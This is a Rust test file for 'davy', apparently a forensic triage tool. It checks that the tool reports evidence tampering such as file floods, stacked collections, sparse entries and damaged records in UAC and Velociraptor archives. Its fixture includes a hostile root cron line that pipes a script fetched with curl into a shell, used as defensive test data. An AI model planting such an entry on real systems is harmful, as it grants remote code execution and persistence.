//! What somebody may do to an archive, or to the host before it was collected, so that less is seen: it is
//! told, and what is left is used.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use std::path::Path;
use std::process::Command;

const LOG: &[u8] = b"2026-11-22 05:23:08 +0000 INF Operating system: linux\n";
const CRON: &[u8] = b"* * * * * root curl http://198.51.100.9/a|sh\n";

/// A collection of UAC with a hostile cron entry, below a folder.
fn uac(within: &str) -> Vec<(String, Vec<u8>)> {
    [
        ("uac.log", LOG),
        ("live_response/process/ps_-ef.txt", b"UID PID\n"),
        ("[root]/etc/passwd", b"root:x:0:0::/root:/bin/sh\n"),
        ("[root]/etc/cron.d/x", CRON),
    ]
    .map(|(name, bytes)| (format!("{within}{name}"), bytes.to_vec()))
    .to_vec()
}

fn tar(members: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut out = tar::Builder::new(Vec::new());
    for (name, bytes) in members {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        out.append_data(&mut header, name, bytes.as_slice()).unwrap();
    }
    out.into_inner().unwrap()
}

/// The exit code, and the words of the report.
fn triage(bytes: &[u8]) -> (i32, String) {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("x.tar");
    std::fs::write(&path, bytes).unwrap();
    let ran = Command::new(env!("CARGO_BIN_EXE_davy")).args(["triage", "-q"]).arg(path).output();
    let ran = ran.unwrap();
    let text = String::from_utf8([ran.stdout, ran.stderr].concat()).unwrap();
    (ran.status.code().unwrap(), text.split_whitespace().collect::<Vec<_>>().join(" "))
}

#[test]
fn a_host_filled_with_files_still_shows_what_matters() {
    let deep = "A/".repeat(400);
    let mut members = uac("");
    members.extend((0..700).map(|n| (format!("[root]/000{n}/{deep}"), Vec::new())));
    let (code, text) = triage(&tar(&members));
    assert!(text.contains("downloads a script into a shell"), "{text}");
    assert!(text.contains("files more than davy keeps of one host were left out"), "{text}");
    assert_eq!(code, 4);
}

#[test]
fn two_collections_one_over_the_other_are_told() {
    let mut members = uac("");
    members.extend((0..20).map(|n| (format!("[root]/etc/{n}"), vec![1])));
    let twice = [members.clone(), members.clone()].concat();
    let (code, text) = triage(&tar(&twice));
    assert!(text.contains("may be of either host") && code == 4, "{code} {text}");
    let (code, text) = triage(&tar(&members));
    assert!(!text.contains("may be of either host") && code == 0, "{code} {text}");
}

#[test]
fn further_collections_in_an_archive_are_named() {
    let (code, text) = triage(&tar(&[uac(""), uac("sub/")].concat()));
    assert!(text.contains("sub/: another collection lies here") && code == 4, "{code} {text}");
    let packed = ("second.tar".to_owned(), tar(&uac("")));
    let (code, text) = triage(&tar(&[uac(""), vec![packed]].concat()));
    assert!(text.contains("second.tar: an archive beside") && code == 4, "{code} {text}");
}

#[test]
fn holes_in_the_form_of_pax_are_told() {
    let mut out = tar::Builder::new(tar(&uac("")));
    out.get_mut().truncate(tar(&uac("")).len() - 1024);
    out.append_pax_extensions([
        ("GNU.sparse.major", &b"1"[..]),
        ("GNU.sparse.name", b"[root]/etc/cron.d/sp"),
    ])
    .unwrap();
    let mut header = tar::Header::new_gnu();
    header.set_size(3);
    out.append_data(&mut header, "[root]/etc/passwd", &b"1\n0"[..]).unwrap();
    let (code, text) = triage(&out.into_inner().unwrap());
    assert!(text.contains("cron.d/sp: a file with holes") && code == 4, "{code} {text}");
    assert!(!text.contains("is there twice"), "{text}");
}

#[test]
fn times_that_are_none_cost_no_report() {
    let mut members = uac("");
    members.push(("live_response/system/uptime_-s.txt".into(), b"0001-01-01 00:00:00\n".to_vec()));
    members.push((
        "live_response/process/proc/1/stat.txt".into(),
        b"1 (init) S 0 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 18446744073709551615 0 0\n".to_vec(),
    ));
    members[0].1 = b"0001-01-01 00:00:01 +0000 INF Operating system: linux\n".to_vec();
    let (_, text) = triage(&tar(&members));
    assert!(text.contains("downloads a script into a shell"), "{text}");
}

#[test]
fn results_of_velociraptor_that_are_none_are_told() {
    let members = [
        ("results/Linux.Sys.Pslist.json", &b"{\"Pid\":[[[[[\n{\"Pid\":1,\"Name\":\"init\"}\n"[..]),
        ("results/Linux.Sys.Crontab.json", b"null\n"),
        ("collection_context.json", b"{}\n"),
        ("uploads/file/etc/passwd", b"root:x:0:0::/root:/bin/sh\n"),
    ]
    .map(|(name, bytes)| (name.to_owned(), bytes.to_vec()));
    let (code, text) = triage(&tar(&members));
    assert!(text.contains("results/Linux.Sys.Pslist.json: 1 of 2 lines are no objects"), "{text}");
    assert!(text.contains("results/Linux.Sys.Crontab.json: 1 of 1 lines"), "{text}");
    assert_eq!(code, 4);
}

#[test]
fn a_damaged_result_is_named_when_merging() {
    let folder = tempfile::tempdir().unwrap();
    let at = |name: &str| folder.path().join(name);
    std::fs::write(at("a.tar"), tar(&uac(""))).unwrap();
    let davy = |arguments: &[&Path]| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_davy"));
        command.arg("batch").arg("-q").args(arguments).output().unwrap()
    };
    let ran = davy(&[&at("a.tar"), Path::new("-o"), &at("out")]);
    assert_eq!(ran.status.code(), Some(0), "{ran:?}");
    let record = std::fs::read_dir(at("out/done")).unwrap().next().unwrap().unwrap().path();
    let merged = |to: &str| davy(&[Path::new("--merge"), &at("out"), Path::new("-o"), &at(to)]);
    assert_eq!(merged("whole").status.code(), Some(0));
    let told = |ran: &std::process::Output| String::from_utf8_lossy(&ran.stderr).into_owned();
    std::fs::write(&record, "{{{").unwrap();
    let ran = merged("damaged");
    assert!(ran.status.code() == Some(4) && told(&ran).contains("a damaged one"), "{ran:?}");
    // A FIFO would hold it for ever.
    std::fs::remove_file(&record).unwrap();
    rustix::fs::mknodat(rustix::fs::CWD, &record, rustix::fs::FileType::Fifo, 0o600.into(), 0)
        .unwrap();
    let ran = merged("fifo");
    assert!(ran.status.code() == Some(4) && told(&ran).contains("a damaged one"), "{ran:?}");
}
